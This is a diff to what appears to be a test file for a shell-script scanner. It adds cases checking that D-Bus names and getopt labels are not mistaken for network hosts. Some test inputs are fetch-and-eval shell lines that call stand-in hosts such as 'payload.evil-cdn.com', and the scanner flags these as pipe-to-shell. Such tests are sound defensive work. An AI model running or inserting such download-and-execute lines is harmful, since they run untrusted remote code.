@@ -150,6 +150,11 @@ describe('real code does not trip it', () => {
     expect(blocking('tmp=$(mktemp -t git-jump.XXXXXX)\ngit grep -n "$1" > "$tmp"\neditor=$(git var GIT_EDITOR)\neval "$editor -q \\$tmp"')).toEqual([]);
     expect(blocking('f=$(fetcher updates.example-cdn.net)\neval "$f"')).toEqual(['pipe-to-shell']);
   });
+  it('a bare name is a host only under a public suffix: a D-Bus name (xdg-mime) or getopt\'s program label is none; an unknown program given a real domain still downloads', () => {
+    expect(blocking('v=$(dbus-send --print-reply --dest=org.freedesktop.DBus /org/freedesktop/DBus org.freedesktop.DBus.ListNames)\neval "$v"')).toEqual([]);
+    expect(blocking("opts=$(getopt -o ab -n 'example.bash' -- \"$@\")\neval set -- \"$opts\"")).toEqual([]);
+    expect(blocking('f=$(fetcher payload.evil-cdn.com)\neval "$f"')).toEqual(['pipe-to-shell']);
+  });
   it("a file decoded into one unknown path is not the script another unknown path runs (Debian's apt-key); the same variable is one file", () => {
     const aptKey = `run_gpg() { sh "$@"; }\ndearmor() {\n  local trusted="$1"\n  base64 -d < "$2" > "$trusted"\n}\ndearmor "$KEYRING" "$ARMORED"\nrun_gpg "$GPG_SH" --keyring "$KEYRING" --list-keys\n`;
     expect(blocking(aptKey)).toEqual([]);
